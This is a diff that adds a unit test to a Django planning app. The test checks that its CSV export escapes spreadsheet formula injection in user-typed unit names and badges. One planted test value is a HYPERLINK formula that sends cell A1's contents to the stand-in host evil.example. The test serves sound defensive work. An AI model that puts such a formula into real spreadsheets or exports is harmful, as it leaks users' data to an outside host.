@@ -273,3 +273,27 @@ def test_inspector_reads_but_changes_nothing(client, world) -> None:
     assert AuditRecord.objects.filter(
         actor_id=inspector.pk, action="list", object_type="capacity.planrun"
     ).exists()
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_the_csv_export_carries_no_formula(client, world) -> None:
+    """Unit names and badges are typed by people; a spreadsheet must read them as text."""
+    import csv
+
+    world["pu"].name = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
+    world["pu"].save()
+    world["ku"].name = "+31 70 123 4567"
+    world["ku"].save()
+    Officer.objects.filter(unit=world["pu"]).update(badge="@SUM(1)")
+    Officer.objects.filter(unit=world["ku"]).update(badge="-2+3")
+    run = services.plan(world["lcc"], TODAY, 2, 5)
+    t.login(client, world["lcc"])
+    body = client.get(reverse("capacity:export-csv", args=[run.pk])).content.decode()
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    plan_rows = [r for r in rows if r[0] == "plan"]
+    assert plan_rows, "the plan staffs the visible assignment"
+    cells = {cell for row in rows for cell in row}
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+    assert {"'@SUM(1)", '\'=HYPERLINK("https://evil.example/?"&A1;"klik")'} <= cells
